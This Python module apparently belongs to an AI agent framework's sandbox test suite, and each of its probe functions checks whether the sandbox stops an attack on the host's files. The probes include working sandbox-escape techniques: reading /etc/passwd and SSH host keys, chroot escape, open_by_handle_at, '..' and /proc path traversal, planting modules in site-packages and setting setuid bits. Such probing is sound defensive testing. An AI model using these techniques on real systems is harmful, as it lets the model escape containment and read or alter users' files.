"""Attacks on the host's files."""

from __future__ import annotations

import contextlib
import ctypes
import importlib.util
import os
import sys
from pathlib import Path
from typing import Any

from agentflow.tools.sandbox.probes.prelude import (
    NEWNS,
    any_succeeds,
    call,
    checked,
    content,
    libc,
    others,
    succeeds,
    tells,
    unshare,
)
from agentflow.tools.sandbox.probes.probe import probe, seen


@probe()
def secret_file(data: dict[str, Any]) -> bool:
    """Reads a file of the user by its name."""
    return tells(content(data["secret_file"]), data)


@probe()
def secret_file_by_ctypes(data: dict[str, Any]) -> bool:
    """Reads it past Python's own open, with C's functions."""
    opened = checked(libc.open(data["secret_file"].encode(), os.O_RDONLY))
    text = ctypes.create_string_buffer(100)
    checked(libc.read(opened, text, 100))
    return tells(text.value, data)


@probe()
def list_folder(data: dict[str, Any]) -> bool:
    """Lists a folder of the user."""
    return bool(os.listdir(data["folder"]))


@probe(needs="a home folder with something in it")
def home_folder(data: dict[str, Any]) -> bool:
    """Lists the user's home; what leads to the Python installation is no find."""
    allowed = {part for path in data["installation"] for part in Path(path).parts}
    return bool(set(os.listdir(data["home"])) - allowed)


@probe()
def passwd(data: dict[str, Any]) -> bool:
    """Reads the users of the host in /etc/passwd."""
    return b"root:" in content("/etc/passwd")


@probe()
def machine_id(data: dict[str, Any]) -> bool:
    """Learns the host's name, resolver or identity from /etc."""
    names = ("hostname", "machine-id", "resolv.conf", "hosts", "fstab", "ssh/ssh_host_rsa_key")
    return any(content(f"/etc/{name}") for name in names)


@probe()
def system_files(data: dict[str, Any]) -> bool:
    """Lists /var, /run, /sys, /boot, /srv, /opt, /mnt or /media of the host."""
    names = ("var", "run", "sys", "boot", "srv", "opt", "mnt", "media")
    found = []
    for name in names:
        with contextlib.suppress(OSError):
            found += os.listdir(f"/{name}")
    return bool(found)


@probe(seen)
def write_secret_folder(data: dict[str, Any]) -> bool:
    """Writes a file into a folder of the user."""
    Path(data["folder"], data["marker"]).write_text("x")
    return True


@probe(seen)
def write_anywhere(data: dict[str, Any]) -> bool:
    """Writes into the folders where hosts let anybody write, and where root may."""
    places = ["/tmp", "/var/tmp", "/dev/shm"]
    if data["inside"]:
        places += ["/", "/etc", "/usr", "/usr/bin", "/lib", "/run", "/home", "/root"]
        places += ["/proc", "/sys", data["home"], *data["installation"]]
    return any_succeeds(lambda place: Path(place, data["marker"]).write_text("x"), places)


@probe(seen)
def parent_folder(data: dict[str, Any]) -> bool:
    """Climbs out of the scratch folder with .. and writes there."""
    up = "../" * 40 if data["inside"] else "../"
    targets = [up + data["marker"], up + data["folder"].lstrip("/") + "/" + data["marker"]]
    return any_succeeds(lambda target: Path(target).write_text("x"), targets)


@probe()
def dot_dot(data: dict[str, Any]) -> bool:
    """Reads a file by a path of .. from an opened folder."""
    folder = os.open(".", os.O_RDONLY)
    opened = os.open("../" * 40 + data["secret_file"].lstrip("/"), os.O_RDONLY, dir_fd=folder)
    return tells(os.read(opened, 100), data)


@probe()
def symbolic_link(data: dict[str, Any]) -> bool:
    """Reads a file through a symbolic link to it."""
    os.symlink(data["secret_file"], "link")
    return tells(content("link"), data)


@probe()
def hard_link(data: dict[str, Any]) -> bool:
    """Reads a file through a hard link to it."""
    os.link(data["secret_file"], "link")
    return tells(content("link"), data)


@probe(victim=True)
def proc_root(data: dict[str, Any]) -> bool:
    """Reads a file through the root or working folder of a process in /proc."""
    paths = [
        f"/proc/{process}/{door}/{data['secret_file'].lstrip('/')}"
        for process in ("self", "thread-self", *others(data))
        for door in ("root", "cwd/" + "../" * 40)
    ]
    return any(tells(content(path), data) for path in paths)


@probe()
def inherited_descriptor(data: dict[str, Any]) -> bool:
    """Reads the user's folder through a file descriptor the parent forgot to close."""
    name = os.path.basename(data["secret_file"])
    return any_succeeds(lambda folder: os.stat(name, dir_fd=folder), range(3, 1024))


@probe(needs="an installation that this user may write")
def installation(data: dict[str, Any]) -> bool:
    """Opens a file of the Python installation for writing."""
    library = importlib.util.find_spec("sympy")
    files = [str(os.__file__), str(library and library.origin), os.path.realpath(sys.executable)]
    return any_succeeds(lambda path: open(path, "r+b").close(), files)


@probe(needs="an installation that this user may write")
def installation_folder(data: dict[str, Any]) -> bool:
    """Puts a module into site-packages, where the next start of Python would find it."""
    places = [Path(os.__file__).parent, *(Path(place) for place in sys.path if "site" in place)]

    def plant(place: Path) -> None:
        planted = place / f"{data['marker']}.py"
        planted.write_text("")
        planted.unlink()

    return any_succeeds(plant, places)


@probe()
def own_source(data: dict[str, Any]) -> bool:
    """Writes to the file of the program that runs it."""
    loaded = [getattr(module, "__file__", None) for module in list(sys.modules.values())]
    own = [file for file in loaded if file and ("agentflow" in file or "program" in file)]
    own += [file for file in (sys.argv[0], data["program"]) if file]
    return any_succeeds(lambda file: open(file, "r+b").close(), own)


@probe()
def change_mode(data: dict[str, Any]) -> bool:
    """Changes the mode of the user's files (here to what it is)."""
    return any_succeeds(lambda path: os.chmod(path, 0o700), [data["folder"]])


@probe()
def lock(data: dict[str, Any]) -> bool:
    """Locks a file of the host, so that others wait; calls could also signal each other by it."""
    import fcntl

    def locked(path: str) -> None:
        fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)

    return any_succeeds(locked, [data["secret_file"], str(os.__file__)])


@probe()
def lease(data: dict[str, Any]) -> bool:
    """Takes a lease on a file of the host, so that whoever writes it waits for most of a minute."""
    import fcntl

    def leased(path: str) -> None:
        fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK)

    return any_succeeds(
        leased, [data["formula_file"], str(os.__file__), str(Path(os.__file__).parent / "abc.py")]
    )


@probe(needs="root")
def open_by_handle(data: dict[str, Any]) -> bool:
    """Opens a file by its handle, past every mount (how containers were left in 2014)."""
    handle = bytes.fromhex(data["handle"])
    for place in (data["folder"], os.path.dirname(os.__file__), "/", "."):
        if succeeds(os.open, place, os.O_RDONLY):
            mount = os.open(place, os.O_RDONLY)
            try:
                opened = call("open_by_handle_at", mount, handle, os.O_RDONLY)
            except OSError:
                continue
            return tells(os.read(opened, 100), data)
    return False


@probe()
def change_root(data: dict[str, Any]) -> bool:
    """Leaves a changed root: chroot below, then climb from the working folder still outside."""
    unshare(NEWNS)
    os.mkdir("below")
    os.chroot("below")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return tells(content(data["secret_file"]), data)


@probe(needs="root")
def device_node(data: dict[str, Any]) -> bool:
    """Makes a device node and reads the device."""
    import stat

    os.mknod("zero", 0o600 | stat.S_IFCHR, os.makedev(1, 5))
    return content("zero", 4) == bytes(4)


@probe()
def devices(data: dict[str, Any]) -> bool:
    """Opens the terminal multiplexer, memory, disks, the kernel's log, FUSE, KVM."""
    names = ["ptmx", "mem", "kmsg", "vda", "sda", "nvme0n1", "fuse", "kvm", "tty", "console"]
    return any_succeeds(lambda name: os.close(os.open(f"/dev/{name}", os.O_RDONLY)), names)


@probe()
def set_user_id_file(data: dict[str, Any]) -> bool:
    """Leaves a program that would run as its owner: chmod u+s takes effect outside."""
    Path(data["folder"], data["marker"]).write_text("x")
    os.chmod(Path(data["folder"], data["marker"]), 0o4755)
    return True
